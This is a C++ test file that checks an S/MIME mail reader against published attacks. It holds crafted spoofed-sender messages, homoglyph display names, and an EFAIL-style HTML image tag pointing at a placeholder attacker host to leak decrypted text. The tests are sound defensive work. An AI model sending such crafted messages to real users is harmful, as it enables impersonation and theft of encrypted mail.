// The reader's decisions against published attacks (docs/smime.md, "Reading"):
// identity ("Johnny, You Are Fired"), unsigned CBC content and direct
// exfiltration (EFAIL), a damaged AuthEnvelopedData. Messages are made by the
// library and then altered as an attacker would; tests/interop/attacks.py
// does the same end to end with openssl-made messages.

#include <fmt/format.h>
#include <fmt/ranges.h>
#include <gtest/gtest.h>

#include "mailseal/common/error.h"
#include "mailseal/smime/smime.h"
#include "smime/internal/cms.h"
#include "smime/internal/identity.h"
#include "test_identities.h"

namespace mailseal::smime {
namespace {

using test::alice;
using test::bob;

const test::Person& mallory() {
  static const test::Person person = test::make_person("mallory@evil.example");
  return person;
}

const std::string kLetter =
    "From: Alice <alice@example.com>\r\n"
    "To: Bob <bob@example.org>\r\n"
    "Subject: Lunch\r\n"
    "\r\n"
    "Shall we meet at noon?\r\n";

std::string replace(std::string text, const std::string& from, const std::string& to) {
  auto at = text.find(from);
  EXPECT_NE(at, std::string::npos) << from;
  if (at != std::string::npos)
    text.replace(at, from.size(), to);
  return text;
}

std::string sign(const std::string& message, const test::Person& signer) {
  MemorySource source(as_bytes(message));
  OutgoingMessage outgoing = OutgoingMessage::read(source);
  StringSink out;
  sign_message(outgoing, out, signer.signer(), SignatureForm::Detached, mailseal::now());
  return out.take();
}

std::string encrypt(const std::string& message, ContentCipher cipher, const test::Person* signer = nullptr) {
  MemorySource source(as_bytes(message));
  OutgoingMessage outgoing = OutgoingMessage::read(source);
  StringSink out;
  std::optional<SignerIdentity> identity;
  if (signer != nullptr)
    identity = signer->signer();
  encrypt_message(outgoing, out, {{bob().encryption}, identity ? &*identity : nullptr, {cipher, false}},
                  mailseal::now());
  return out.take();
}

ReadResult read(const std::string& message, std::vector<EmailAddress> reader = {}) {
  std::vector<DecryptionKey> keys = {bob().decryption()};
  Policy policy = Policy::standard(mailseal::now());
  policy.reader_addresses = std::move(reader);
  return read_message(as_bytes(message), keys, policy);
}

bool mentions(const std::vector<std::string>& texts, const std::string& a, const std::string& b = "") {
  for (const auto& text : texts) {
    if (text.find(a) != std::string::npos && (b.empty() || text.find(b) != std::string::npos))
      return true;
  }
  return false;
}

// The entity of a message with a base64 body, its CMS structure changed.
std::string alter_der(const std::string& message, std::size_t from_end) {
  mime::Entity entity = mime::Entity::parse(message);
  Bytes der = mime::decode_body(entity);
  der.at(der.size() - from_end) ^= 0x20;
  return std::string(entity.header_block) + "\r\n\r\n" + mime::encode_base64_lines(der);
}

// An application/pkcs7-mime entity with `fields` on top, opaque-signed by
// `signer` over `content` as it stands (as openssl cms -nodetach does).
std::string opaque_entity(const std::string& fields, const std::string& content, const test::Person& signer) {
  ossl::Cms cms = internal::make_signed_data(signer.signer(), false);
  StringSink base64;
  internal::stream_cms(cms.get(), base64, "sign", [&](ByteSink& sink) { sink.write(as_bytes(content)); });
  return fields +
         "MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
         "Content-Transfer-Encoding: base64\r\n\r\n" +
         base64.take();
}

const std::string kWire = "Content-Type: text/plain\r\n\r\nBob, please wire 10000 EUR to Mallory. -- Alice\r\n";

TEST(SmimeAttacks, ANestedOpaqueLayerWhoseFromIsNotItsSignerIsAnIdentityProblem) {
  // Mallory signs "From: Alice" inside, then signs that as himself outside.
  std::string alice_fields = "From: Alice <alice@example.com>\r\nTo: bob@example.org\r\n";
  std::string inner = opaque_entity(alice_fields, alice_fields + kWire, mallory());
  ReadResult result =
      read(opaque_entity("From: mallory@evil.example\r\nTo: bob@example.org\r\n", inner, mallory()));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  EXPECT_TRUE(mentions(result.identity_problems, "signed by mallory@evil.example", "alice@example.com"));
  EXPECT_EQ(Release::of_verified(result).withheld(), Withheld::IdentityMismatch);
}

TEST(SmimeAttacks, ASealedMessageSignedAgainByAForwarderCountsOnlyWhenItsSignerNamesItsFrom) {
  std::string alice_fields = "From: Alice <alice@example.com>\r\nTo: bob@example.org\r\n";
  std::string forwarder = "From: mallory@evil.example\r\nTo: bob@example.org\r\n";
  ReadResult sealed = read(opaque_entity(forwarder, opaque_entity(alice_fields, alice_fields + kWire, alice()),
                                         mallory()));
  ASSERT_TRUE(sealed.signature);
  EXPECT_TRUE(sealed.signature->valid) << fmt::format("{}", fmt::join(sealed.signature->problems, "; "));
  ASSERT_EQ(sealed.from.size(), 1u);
  EXPECT_EQ(sealed.from.front(), EmailAddress::parse("alice@example.com"));
  EXPECT_TRUE(mentions(sealed.warnings, "sealed message from alice@example.com"));
  // Thunderbird's corpus: the sealed layer carries no From of its own; it
  // speaks for no one, and the forwarder's From is the message's.
  ReadResult bare = read(opaque_entity(forwarder, opaque_entity("", kWire, alice()), mallory()));
  ASSERT_TRUE(bare.signature);
  EXPECT_TRUE(bare.signature->valid);
  EXPECT_TRUE(bare.identity_problems.empty());
  // ... but a From deeper down is held to the forwarder's.
  ReadResult deeper = read(opaque_entity(forwarder, opaque_entity("", alice_fields + kWire, alice()), mallory()));
  EXPECT_TRUE(mentions(deeper.identity_problems, "alice@example.com", "mallory@evil.example"));
}

TEST(SmimeAttacks, AFromThatIsNotOneValidMailboxUnderASignatureIsAnIdentityProblem) {
  for (std::string from : {"Alice <\"alice\"@example.com>", "Alice <alice@[192.0.2.1]>", "Alice <alice@localhost>",
                           "Alice <alice@example.com\xc2\xa0>", "User1"}) {
    std::string fields = "From: " + from + "\r\nTo: bob@example.org\r\n";
    ReadResult inner = read(opaque_entity("From: mallory@evil.example\r\n", fields + kWire, mallory()));
    ASSERT_TRUE(inner.signature) << from;
    EXPECT_FALSE(inner.signature->valid) << from;
    EXPECT_TRUE(mentions(inner.identity_problems, "is not one valid mailbox", from)) << from;
    EXPECT_EQ(Release::of_verified(inner).withheld(), Withheld::IdentityMismatch) << from;
    ReadResult outer = read(opaque_entity(fields, kWire, mallory()));
    EXPECT_TRUE(mentions(outer.identity_problems, "is not one valid mailbox", from)) << from;
  }
  // Unsigned (RFC 4134's 5.3, "From: User1"): a note, nothing to confuse.
  ReadResult unsigned_message =
      read(replace(encrypt(kLetter, ContentCipher::Aes256Gcm), "From: Alice <alice@example.com>", "From: User1"));
  EXPECT_TRUE(unsigned_message.identity_problems.empty());
  EXPECT_TRUE(mentions(unsigned_message.notes, "User1"));
}

TEST(SmimeAttacks, TwoFromFieldsMakeTheSignatureInvalidAndWithholdTheContent) {
  ReadResult result = read("From: mallory@evil.example\r\n" + sign(kLetter, alice()));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  EXPECT_TRUE(mentions(result.identity_problems, "alice@example.com", "mallory@evil.example"));
  Release release = Release::of_verified(result);
  EXPECT_EQ(release.withheld(), Withheld::IdentityMismatch);
}

TEST(SmimeAttacks, AFromWithTwoMailboxesIsAnIdentityProblem) {
  ReadResult result = read(replace(sign(kLetter, alice()), "From: Alice <alice@example.com>",
                                   "From: Alice <alice@example.com>, mallory@evil.example"));
  EXPECT_TRUE(mentions(result.identity_problems, "2 mailboxes"));
  EXPECT_FALSE(result.signature->valid);
}

TEST(SmimeAttacks, ASignerOtherThanTheFromIsBadNamingBoth) {
  // Mallory signs as himself, then changes the (unsigned) outer From.
  std::string signed_message = sign(replace(kLetter, "Alice <alice@example.com>", "mallory@evil.example"), mallory());
  ReadResult result = read(replace(signed_message, "From: mallory@evil.example", "From: alice@example.com"));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  EXPECT_TRUE(mentions(result.signature->problems, "mallory@evil.example", "alice@example.com"));
}

TEST(SmimeAttacks, AProtectedFromThatIsNotTheOuterFromIsRefusedWhateverIsAllowed) {
  // Encrypted and signed by Mallory (protected From mallory), outer From
  // changed to Alice: the layers disagree.
  std::string mallory_letter = replace(kLetter, "Alice <alice@example.com>", "mallory@evil.example");
  std::string message = replace(encrypt(mallory_letter, ContentCipher::Aes256Gcm, &mallory()),
                                "From: mallory@evil.example", "From: alice@example.com");
  ReadResult result = read(message);
  ASSERT_TRUE(result.decrypted);
  EXPECT_TRUE(mentions(result.identity_problems, "mallory@evil.example", "alice@example.com"));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  Release release = Release::of_decrypted(result, BadSignature::Release, Unauthenticated::Release);
  EXPECT_EQ(release.withheld(), Withheld::IdentityMismatch);
}

TEST(SmimeAttacks, ADisplayNameWithAnotherAddressAndASenderAreReported) {
  std::string letter = "Sender: mallory@evil.example\r\n" +
                       replace(kLetter, "Alice <alice@example.com>", "\"bob@example.org\" <alice@example.com>");
  ReadResult result = read(sign(letter, alice()));
  ASSERT_TRUE(result.signature);
  EXPECT_TRUE(result.signature->valid);
  EXPECT_TRUE(mentions(result.warnings, "display name", "bob@example.org"));
  EXPECT_TRUE(mentions(result.warnings, "Sender", "mallory@evil.example"));
}

TEST(SmimeAttacks, AnOrdinaryDisplayNameIsNotReported) {
  ReadResult result = read(sign(kLetter, alice()));
  EXPECT_TRUE(result.warnings.empty());
  EXPECT_TRUE(result.identity_problems.empty());
}

TEST(SmimeAttacks, SignedToAndCcThatDoNotNameTheReaderAreReported) {
  std::string message = encrypt(kLetter, ContentCipher::Aes256Gcm, &alice());
  ReadResult forwarded = read(message, {EmailAddress::parse("carol@example.net")});
  EXPECT_EQ(forwarded.addressed_to_reader, std::optional<bool>(false));
  EXPECT_TRUE(mentions(forwarded.warnings, "carol@example.net", "forwarded"));
  ReadResult addressed = read(message, {EmailAddress::parse("bob@example.org")});
  EXPECT_EQ(addressed.addressed_to_reader, std::optional<bool>(true));
  ReadResult unknown = read(message);
  EXPECT_FALSE(unknown.addressed_to_reader.has_value());
}

TEST(SmimeAttacks, UnsignedCbcContentIsWithheldUnlessAskedFor) {
  ReadResult withheld = read(encrypt(kLetter, ContentCipher::Aes256Cbc));
  ASSERT_TRUE(withheld.decrypted);
  Release release = Release::of_decrypted(withheld, BadSignature::Withhold);
  EXPECT_EQ(release.withheld(), Withheld::Unauthenticated);
  EXPECT_THROW((void)release.content(), Error);
  ReadResult asked = read(encrypt(kLetter, ContentCipher::Aes256Cbc));
  EXPECT_TRUE(Release::of_decrypted(asked, BadSignature::Withhold, Unauthenticated::Release).released());
}

TEST(SmimeAttacks, SignedCbcAndUnsignedGcmContentAreReleased) {
  ReadResult signed_cbc = read(encrypt(kLetter, ContentCipher::Aes256Cbc, &alice()));
  EXPECT_TRUE(Release::of_decrypted(signed_cbc, BadSignature::Withhold).released());
  ReadResult gcm = read(encrypt(kLetter, ContentCipher::Aes256Gcm));
  EXPECT_TRUE(Release::of_decrypted(gcm, BadSignature::Withhold).released());
}

TEST(SmimeAttacks, ADamagedGcmTagIsReportedAsAlteredInTransit) {
  // A long body: the last kilobyte of the structure is ciphertext, then the tag.
  std::string message = encrypt(kLetter + std::string(4000, 'x') + "\r\n", ContentCipher::Aes256Gcm);
  for (std::size_t from_end : {std::size_t{1000}, std::size_t{40}}) {
    try {
      (void)read(alter_der(message, from_end));
      FAIL() << "a damaged AuthEnvelopedData was read";
    } catch (const Error& error) {
      EXPECT_EQ(error.code(), ErrorCode::BadSignature) << error.what();
      EXPECT_NE(std::string(error.what()).find("altered in transit"), std::string::npos) << error.what();
    }
  }
}

TEST(SmimeAttacks, AnEncryptedPartThatIsNotTheRootIsNotOpened) {
  std::string encrypted = encrypt(kLetter, ContentCipher::Aes256Gcm);
  std::string body = encrypted.substr(encrypted.find("Content-Type:"));
  std::string wrapped =
      "From: mallory@evil.example\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
      "<img src=\"http://evil.example/?\r\n--x\r\n" +
      body + "\r\n--x--\r\n";
  ReadResult result = read(wrapped);
  EXPECT_FALSE(result.decrypted);
  EXPECT_TRUE(result.encrypted_part_only);
  std::string attached =
      "From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + encrypted;
  EXPECT_TRUE(read(attached).encrypted_part_only);
}

TEST(SmimeAttacks, ASignedPartThatIsNotTheRootCountsForNothing) {
  std::string signed_message = sign(kLetter, alice());
  std::string wrapped =
      "From: alice@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n"
      "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n" +
      signed_message + "\r\n--x--\r\n";
  ReadResult result = read(wrapped);
  EXPECT_FALSE(result.signature);
  EXPECT_TRUE(result.signed_part_only);
  EXPECT_EQ(Release::of_verified(result).withheld(), Withheld::NotSigned);
}

// "Johnny, You Are Fired" with the signed part hidden from the search for
// it, in the six shapes an attacker's review found (2026-12-01): each is
// shown as a signed part by GMime, so a client says "signed by Alice" beside
// the attacker's text. Mailseal must still say that a part is, or may be,
// signed and that nothing covers the whole.
TEST(SmimeAttacks, ASignedPartHiddenFromTheSearchStillCountsForNothingAndIsNamed) {
  const std::string signed_message = sign(kLetter, alice());
  const std::string signed_part = signed_message.substr(signed_message.find("Content-Type:"));
  const std::string head =
      "From: mallory@evil.example\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nYou are fired.\r\n";
  std::string many_parts = head;
  for (int i = 0; i < 1001; ++i)
    many_parts += "--x\r\nContent-Type: text/plain\r\n\r\n.\r\n";
  many_parts += "--x\r\n" + signed_part + "\r\n--x--\r\n";
  std::string deep = signed_part;
  for (int level = 0; level < 10; ++level) {
    const std::string boundary = "level" + std::to_string(level);
    deep = "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\n\r\n--" + boundary + "\r\n" + deep +
           "\r\n--" + boundary + "--\r\n";
  }
  const std::vector<std::pair<std::string, std::string>> shapes = {
      {"the last part of a multipart never closed", head + "--x\r\n" + signed_part},
      {"inside an inner multipart never closed",
       head + "--x\r\nContent-Type: multipart/mixed; boundary=\"y\"\r\n\r\n--y\r\n" + signed_part + "\r\n--x--\r\n"},
      {"after a sibling whose header block does not parse",
       head + "--x\r\nnot a header field\r\nContent-Type: text/plain\r\n\r\nhi\r\n--x\r\n" + signed_part +
           "\r\n--x--\r\n"},
      {"behind more parts than the search splits", many_parts},
      {"nested deeper than the search goes", head + "--x\r\n" + deep + "\r\n--x--\r\n"},
      {"behind a first, harmless Content-Type",
       head + "--x\r\nContent-Type: text/plain\r\n" + signed_part + "\r\n--x--\r\n"},
  };
  for (const auto& [shape, message] : shapes) {
    SCOPED_TRACE(shape);
    ReadResult result = read(message);
    EXPECT_FALSE(result.signature);
    EXPECT_TRUE(result.signed_part_only || result.parts_unchecked);
    EXPECT_TRUE(mentions(result.notes, "no signature covers the whole message", ""))
        << testing::PrintToString(result.notes);
    EXPECT_EQ(Release::of_verified(result).withheld(), Withheld::NotSigned);
  }
  // A well-formed message with no S/MIME part says nothing of the kind.
  ReadResult plain = read(head + "--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n--x--\r\n");
  EXPECT_FALSE(plain.signed_part_only || plain.parts_unchecked);
  EXPECT_TRUE(plain.notes.empty()) << testing::PrintToString(plain.notes);
}

TEST(SmimeAttacks, OuterFieldsThatDifferFromTheSignedOnesAreReported) {
  mime::Headers outer = mime::Headers::parse(
      "From: alice@example.com\r\nTo: bob@example.org\r\nSubject: You are fired\r\nReply-To: mallory@evil.example");
  mime::Headers signed_fields =
      mime::Headers::parse("From: alice@example.com\r\nTo: bob@example.org\r\nSubject: Lunch");
  std::vector<std::string> warnings;
  internal::compare_with_signed(outer, signed_fields, warnings);
  ASSERT_EQ(warnings.size(), 2u);
  EXPECT_TRUE(mentions(warnings, "Subject", "You are fired"));
  EXPECT_TRUE(mentions(warnings, "Reply-To", "not signed"));
}

TEST(SmimeAttacks, SingleFromNamesEveryMailboxItRefuses) {
  std::vector<std::string> problems, notes;
  auto two = mime::Headers::parse("From: alice@example.com\r\nFrom: mallory@evil.example");
  EXPECT_FALSE(internal::single_from(two, "the message", problems, notes));
  EXPECT_TRUE(mentions(problems, "alice@example.com", "mallory@evil.example"));
  problems.clear();
  auto one = mime::Headers::parse("From: =?utf-8?q?Alice?= <alice@example.com>");
  EXPECT_EQ(internal::single_from(one, "the message", problems, notes), EmailAddress::parse("alice@example.com"));
  EXPECT_TRUE(problems.empty());
  auto invalid = mime::Headers::parse("From: User1");
  EXPECT_FALSE(internal::single_from(invalid, "the message", problems, notes));
  EXPECT_TRUE(problems.empty()) << "the reader decides: an identity problem only under a signature";
  EXPECT_TRUE(mentions(notes, "User1", "not one valid mailbox"));
}

TEST(SmimeAttacks, DisplayNameLookAlikesAreReported) {
  const EmailAddress from = EmailAddress::parse("mallory@evil.example");
  for (std::string value : {"alice\xef\xbc\xa0" "example.com <mallory@evil.example>",    // U+FF20
                            "alice\xef\xb9\xab" "example.com <mallory@evil.example>",    // U+FE6B
                            "alice@\xe2\x80\x8b" "example.com <mallory@evil.example>",   // U+200B
                            "=?utf-8?b?YWxpY2VA4oCLZXhhbXBsZS5jb20=?= <mallory@evil.example>",
                            "\xe2\x80\xae" "moc.elpmaxe@ecila\xe2\x80\xac <mallory@evil.example>",  // U+202E
                            "alice @ example.com <mallory@evil.example>", "\"alice@example\" <mallory@evil.example>",
                            "\xef\xbb\xbf" "Alice <mallory@evil.example>", "Al\xe2\x81\xa6ice <mallory@evil.example>"}) {
    std::vector<std::string> warnings;
    internal::check_shown_identity(mime::Headers::parse("From: " + value), from, warnings);
    EXPECT_TRUE(mentions(warnings, "mallory@evil.example")) << value;
  }
  for (std::string value : {"Mallory <mallory@evil.example>", "\"Mallory, M.\" <mallory@evil.example>",
                            "=?utf-8?q?Zo=C3=AB_M=C3=BCller?= <mallory@evil.example>", "mallory@evil.example",
                            "\"mallory@evil.example\" <mallory@evil.example>"}) {
    std::vector<std::string> warnings;
    internal::check_shown_identity(mime::Headers::parse("From: " + value), from, warnings);
    EXPECT_TRUE(warnings.empty()) << value;
  }
}

TEST(SmimeAttacks, TwoDateFieldsAreAnIdentityProblem) {
  ReadResult result = read("Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n" + sign(kLetter, alice()));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  EXPECT_TRUE(mentions(result.identity_problems, "2 Date fields"));
  EXPECT_EQ(Release::of_verified(result).withheld(), Withheld::IdentityMismatch);
}

TEST(SmimeAttacks, ASignedMessageWithADateIsNotReportedAsUndated) {
  // The library always adds signingTime; tests/interop/attacks.py signs
  // without one (openssl cms -noattr) for the reported case.
  std::string with_date = opaque_entity("From: mallory@evil.example\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n",
                                        kWire, mallory());
  EXPECT_FALSE(mentions(read(with_date).warnings, "no readable Date"));
}

TEST(SmimeAttacks, DuplicateContentFieldsAreRefused) {
  std::string message = opaque_entity("From: alice@example.com\r\n", kLetter, alice());
  EXPECT_NO_THROW((void)read(message));
  for (std::string field : {"Content-Type: text/plain\r\n", "Content-Transfer-Encoding: 8bit\r\n"}) {
    EXPECT_THROW((void)read(field + message), Error) << field;
  }
  std::string inner = "From: Alice <alice@example.com>\r\nContent-Type: text/html\r\n" + kWire;
  EXPECT_THROW((void)read(opaque_entity("From: alice@example.com\r\n", inner, alice())), Error);
}

TEST(SmimeAttacks, AnUnparsedSenderAndAResentFromAreReported) {
  const EmailAddress from = EmailAddress::parse("alice@example.com");
  for (std::string field : {"Sender: Mallory <\"mallory\"@evil.example>", "Resent-From: mallory@evil.example"}) {
    std::vector<std::string> warnings;
    internal::check_shown_identity(mime::Headers::parse("From: alice@example.com\r\n" + field), from, warnings);
    EXPECT_TRUE(mentions(warnings, "mallory", "alice@example.com")) << field;
  }
  std::vector<std::string> warnings;
  internal::check_shown_identity(mime::Headers::parse("From: alice@example.com\r\nSender: alice@example.com"), from,
                                 warnings);
  EXPECT_TRUE(warnings.empty());
}

TEST(SmimeAttacks, AnEncodedDisplayNameHidingAnAddressIsReported) {
  std::vector<std::string> warnings;
  auto headers = mime::Headers::parse("From: =?utf-8?b?Ym9iQGV4YW1wbGUub3Jn?= <alice@example.com>");
  internal::check_shown_identity(headers, EmailAddress::parse("alice@example.com"), warnings);
  EXPECT_TRUE(mentions(warnings, "bob@example.org"));
}

}  // namespace
}  // namespace mailseal::smime
